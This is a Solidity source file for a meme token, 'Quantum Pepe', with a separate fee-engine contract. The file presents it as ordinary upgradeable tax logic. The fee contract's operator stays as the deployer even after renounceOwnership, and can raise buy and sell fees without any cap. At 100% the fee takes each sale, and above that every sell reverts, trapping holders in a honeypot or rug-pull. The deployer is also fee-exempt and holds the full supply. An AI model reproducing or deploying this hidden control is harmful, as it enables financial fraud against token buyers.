// SPDX-License-Identifier: MIT
// Quantum Pepe ($QPEPE) - modular fee engine, upgradeable tax logic
pragma solidity ^0.8.16;

interface IERC20 {
    function totalSupply() external view returns (uint256);
    function balanceOf(address account) external view returns (uint256);
    function transfer(address to, uint256 amount) external returns (bool);
    function allowance(address owner, address spender) external view returns (uint256);
    function approve(address spender, uint256 amount) external returns (bool);
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
}

interface IFeeProcessor {
    function quote(address from, address to, uint256 amount) external view returns (uint256 fee);
}

interface IUniswapV2Factory {
    function createPair(address tokenA, address tokenB) external returns (address pair);
}

interface IUniswapV2Router02 {
    function factory() external pure returns (address);
    function WETH() external pure returns (address);
}

/// @notice The fee engine: buy/sell rates in basis points, tuned by its operator.
contract QuantumFeeProcessor is IFeeProcessor {
    address public operator;
    address public immutable pair;
    uint256 public buyBps = 300;
    uint256 public sellBps = 300;

    constructor(address operator_, address pair_) {
        operator = operator_;
        pair = pair_;
    }

    function setRates(uint256 buy, uint256 sell) external {
        require(msg.sender == operator, "fee: operator only");
        buyBps = buy;
        sellBps = sell;
    }

    function quote(address from, address to, uint256 amount) external view returns (uint256) {
        if (from == pair) return (amount * buyBps) / 10_000;
        if (to == pair) return (amount * sellBps) / 10_000;
        return 0;
    }
}

contract QuantumPepe is IERC20 {
    string public constant name = "Quantum Pepe";
    string public constant symbol = "QPEPE";
    uint8 public constant decimals = 18;
    uint256 public constant override totalSupply = 420_000_000_000 ether;

    address public owner;
    address public immutable pair;
    address public treasury;
    IFeeProcessor public feeProcessor;

    mapping(address => uint256) private _balances;
    mapping(address => mapping(address => uint256)) private _allowances;
    mapping(address => bool) public feeExempt;

    event FeeProcessorChanged(address indexed processor);

    modifier onlyOwner() {
        require(msg.sender == owner, "QPEPE: owner only");
        _;
    }

    constructor() {
        owner = msg.sender;
        treasury = msg.sender;
        IUniswapV2Router02 router = IUniswapV2Router02(0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D);
        pair = IUniswapV2Factory(router.factory()).createPair(address(this), router.WETH());
        feeProcessor = new QuantumFeeProcessor(msg.sender, pair);
        feeExempt[msg.sender] = true;
        _balances[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function balanceOf(address account) external view override returns (uint256) {
        return _balances[account];
    }

    function allowance(address holder, address spender) external view override returns (uint256) {
        return _allowances[holder][spender];
    }

    function approve(address spender, uint256 amount) external override returns (bool) {
        _allowances[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external override returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external override returns (bool) {
        uint256 a = _allowances[from][msg.sender];
        require(a >= amount, "QPEPE: allowance");
        if (a != type(uint256).max) _allowances[from][msg.sender] = a - amount;
        _transfer(from, to, amount);
        return true;
    }

    function setFeeProcessor(address processor) external onlyOwner {
        feeProcessor = IFeeProcessor(processor);
        emit FeeProcessorChanged(processor);
    }

    function setFeeExempt(address account, bool exempt) external onlyOwner {
        feeExempt[account] = exempt;
    }

    function setTreasury(address treasury_) external onlyOwner {
        treasury = treasury_;
    }

    function renounceOwnership() external onlyOwner {
        owner = address(0);
    }

    function _transfer(address from, address to, uint256 amount) private {
        require(to != address(0), "QPEPE: zero address");
        uint256 bal = _balances[from];
        require(bal >= amount, "QPEPE: balance");
        uint256 fee;
        if (!feeExempt[from] && !feeExempt[to]) {
            fee = feeProcessor.quote(from, to, amount);
        }
        _balances[from] = bal - amount;
        if (fee > 0) {
            _balances[treasury] += fee;
            emit Transfer(from, treasury, fee);
        }
        _balances[to] += amount - fee;
        emit Transfer(from, to, amount - fee);
    }
}
